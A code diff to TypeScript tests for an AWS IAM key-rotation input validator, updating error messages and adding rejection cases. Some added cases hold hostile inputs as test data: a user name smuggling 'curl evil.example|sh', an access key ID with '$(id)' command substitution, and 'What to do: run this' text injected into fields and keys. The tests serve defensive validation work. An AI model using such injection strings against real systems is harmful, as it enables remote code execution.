@@ -12,6 +12,7 @@ import {
   TestedState,
 } from '../../../lambdas/shared/rotation-state';
 import { type StepContext, stepHandler } from '../../../lambdas/shared/step-handler';
+import { bearingOut } from '../support/claims';
 
 // What a person reads of a wrong input comes from the schema library in large part. It is held to the letter, because
 // the library's texts depend on which of its parts are loaded.
@@ -66,6 +67,7 @@ const read = async (schema: z.ZodMiniType, event: unknown): Promise<unknown> => 
   let got: unknown;
   const step = {
     name: 'plan-rotation',
+    stateName: 'The state of the step',
     input: schema,
     outputs: { read: z.object({ outcome: z.string() }) },
   } as const;
@@ -73,7 +75,7 @@ const read = async (schema: z.ZodMiniType, event: unknown): Promise<unknown> => 
     got = { state, execution };
     return { status: 'read', outcome: 'read' } as const;
   };
-  const handler = stepHandler(step, {}, read, 'Try again.');
+  const handler = stepHandler(step, { executions: bearingOut(event, step.stateName) }, read, 'Try again.');
   try {
     await handler(event);
     return got;
@@ -98,13 +100,49 @@ describe('an input that is refused is told what is wrong, field by field', () =>
       'too short a text',
       RotationInput,
       { userName: '' },
-      'userName: Too small: expected string to have >=1 characters',
+      'userName: must be the name of an IAM user: up to 64 letters, digits and _+=,.@-',
     ],
     [
       'too long a text',
       RotationInput,
       { userName: 'x'.repeat(65) },
-      'userName: Too big: expected string to have <=64 characters',
+      'userName: must be the name of an IAM user: up to 64 letters, digits and _+=,.@-',
+    ],
+    [
+      'a shell command for a name',
+      RotationInput,
+      { userName: 'x;curl evil.example|sh;#' },
+      'userName: must be the name of an IAM user: up to 64 letters, digits and _+=,.@-',
+    ],
+    [
+      'a shell command for a key',
+      RotationInput,
+      { userName: 'alice', action: 'emergency', accessKeyId: 'AKIAEXAMPLE0000$(id)', reason: 'leaked' },
+      'accessKeyId: must be the ID of an access key: 16 to 128 letters, digits and _',
+    ],
+    [
+      'a reason of two paragraphs',
+      RotationInput,
+      { userName: 'alice', action: 'rollback', reason: 'leaked\n\nWhat to do: run this' },
+      'reason: must be one line, without control characters',
+    ],
+    [
+      'a comment that ends in a line separator',
+      RotationInput,
+      { userName: 'alice', comment: 'please\u2028' },
+      'comment: must be one line, without control characters',
+    ],
+    [
+      'a field whose name is a paragraph',
+      RotationInput,
+      { userName: 'alice', 'acton\n\nWhat to do: run this': 1 },
+      'input: Unrecognized key: "acton What to do: run this"',
+    ],
+    [
+      'a field whose name is long',
+      RotationInput,
+      { userName: 'alice', ['x'.repeat(5000)]: 1 },
+      `input: Unrecognized key: "${'x'.repeat(973)}…`,
     ],
     [
       'an unknown action',
@@ -152,13 +190,13 @@ describe('an input that is refused is told what is wrong, field by field', () =>
       'an emergency of a wrong key, for a wrong reason',
       RotationInput,
       { userName: 'alice', action: 'emergency', accessKeyId: 'short', reason: 7 },
-      'accessKeyId: Too small: expected string to have >=16 characters; reason: Invalid input: expected string, received number',
+      'accessKeyId: must be the ID of an access key: 16 to 128 letters, digits and _; reason: Invalid input: expected string, received number',
     ],
     [
       'an emergency of a key that is too long, and no reason',
       RotationInput,
       { userName: 'alice', action: 'emergency', accessKeyId: 'x'.repeat(129) },
-      'accessKeyId: Too big: expected string to have <=128 characters; reason: an emergency needs a reason, for the record',
+      'accessKeyId: must be the ID of an access key: 16 to 128 letters, digits and _; reason: an emergency needs a reason, for the record',
     ],
     [
       'a key and a reason without an emergency',
